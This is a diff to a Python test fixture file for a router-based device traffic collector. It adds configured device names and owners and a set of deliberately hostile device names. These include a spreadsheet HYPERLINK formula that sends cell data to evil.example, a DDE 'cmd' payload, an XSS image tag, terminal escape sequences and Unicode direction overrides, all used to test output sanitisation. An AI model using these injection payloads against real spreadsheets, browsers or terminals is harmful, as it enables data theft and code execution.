@@ -246,11 +246,25 @@ TABLET = "aa:00:00:00:00:04"     # on ap-2, which serves no DHCP: no lease at al
 ZOE = "aa:00:00:00:00:05"        # non-ASCII hostname with a slash in it
 SCENARIO_IPS = {LAPTOP: "10.0.0.11", NONAME: "10.0.0.12", UNKNOWN: "10.0.0.13", ZOE: "10.0.0.15"}
 SCENARIO_NAMES = {LAPTOP: "laptop", NONAME: "", UNKNOWN: "Unknown", ZOE: "Zoë/tablet"}
+OLD_PHONE = "aa:00:00:00:00:09"  # named in the configuration, never seen
+# The scenario's `devices` section, as a user would write it (a MAC in capitals with dashes,
+# a name alone as a plain string), and what each seen device's name and owner must then be.
+SCENARIO_DEVICES = {
+    LAPTOP: {"name": "Anna's laptop", "owner": "Anna"},
+    TABLET: {"owner": "Anna"},
+    NONAME: {"name": "  Printer ", "owner": "Ben"},
+    ZOE: "Zoë's tablet",
+    OLD_PHONE.upper().replace(":", "-"): {"name": "Old phone", "owner": "Ben"},
+}
+SCENARIO_LABELS = {LAPTOP: ("Anna's laptop", "Anna"), TABLET: (None, "Anna"), NONAME: ("Printer", "Ben"),
+                   ZOE: ("Zoë's tablet", None), UNKNOWN: (None, None)}
 
 
 @dataclass
 class ApiScenario:
     """Databases the real collector wrote from simulated routers, and what they must hold.
+
+    The configuration names and assigns owners to some devices (SCENARIO_DEVICES).
 
     Runs at 2026-11-15 12:00 (first contact), 12:30, 2026-11-16 12:30 and
     2026-12-01 00:30 UTC: November is a past period, December the current one.
@@ -277,7 +291,7 @@ def build_api_scenario(fleet: Fleet, base: Path) -> ApiScenario:
     for mac in (LAPTOP, NONAME, UNKNOWN, ZOE):
         fleet.join("router-1", mac, hostname=SCENARIO_NAMES[mac], ip=SCENARIO_IPS[mac])
     fleet.join("ap-2", TABLET)
-    fleet.write_config(config, settings={"timezone": "UTC"})
+    write_config(config, {**fleet.config(settings={"timezone": "UTC"}), "devices": SCENARIO_DEVICES})
 
     periods: dict[str, dict[str, list[int]]] = {}
     days: dict[str, dict[str, list[int]]] = {}
@@ -329,6 +343,41 @@ def build_api_scenario(fleet: Fleet, base: Path) -> ApiScenario:
     settle()
     return ApiScenario(data_dir, config, fleet.now, run_times, periods, days,
                        file_hashes(data_dir), codes)
+
+
+# Devices whose names are hostile: DHCP hostnames chosen by whoever joins the network, and
+# names and owners typed into the configuration (pasted from anywhere).
+FORMULA_HOST = "aa:00:00:00:00:11"
+ESCAPE_HOST = "aa:00:00:00:00:12"
+MARKUP_HOST = "aa:00:00:00:00:13"
+LONG_NAME = "aa:00:00:00:00:14"
+HOSTILE_HOSTNAMES = {
+    FORMULA_HOST: '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    ESCAPE_HOST: "\x1b[31mred\x1b[0m",
+    MARKUP_HOST: "<img src=x onerror=alert(1)>",
+    LONG_NAME: "-x",
+}
+HOSTILE_DEVICES = {
+    ESCAPE_HOST: {"name": "+cmd|' /C calc'!A0", "owner": "@SUM(1+1)"},
+    MARKUP_HOST: {"name": "-2+3\x1b]0;pwned\x07", "owner": "<b>Anna</b>"},
+    LONG_NAME: {"name": "W" * 199 + "\u03a9", "owner": "\u202eevil\u200f"},
+}
+
+
+def build_hostile_names(fleet: Fleet, base: Path) -> tuple[Path, float]:
+    """Two runs over devices with the hostile names above; (the data directory, the last run's time)."""
+    data_dir = base / "data"
+    fleet.add_router("router-1")
+    for i, (mac, hostname) in enumerate(HOSTILE_HOSTNAMES.items()):
+        fleet.join("router-1", mac, hostname=hostname, ip=f"10.0.0.{50 + i}")
+    config = write_config(base / "routers.json", {**fleet.config(settings={"timezone": "UTC"}),
+                                                  "devices": HOSTILE_DEVICES})
+    assert collect(fleet, config, data_dir).code == 0
+    for i, mac in enumerate(HOSTILE_HOSTNAMES):
+        fleet.transfer("router-1", mac, 1000 * (i + 1), 10_000 * (i + 1), wan_router="router-1")
+    fleet.advance(1800)
+    assert collect(fleet, config, data_dir).code == 0
+    return data_dir, fleet.now
 
 
 def answers_during(server: ApiServer, path: str, action, max_requests: int = 2000) -> tuple:
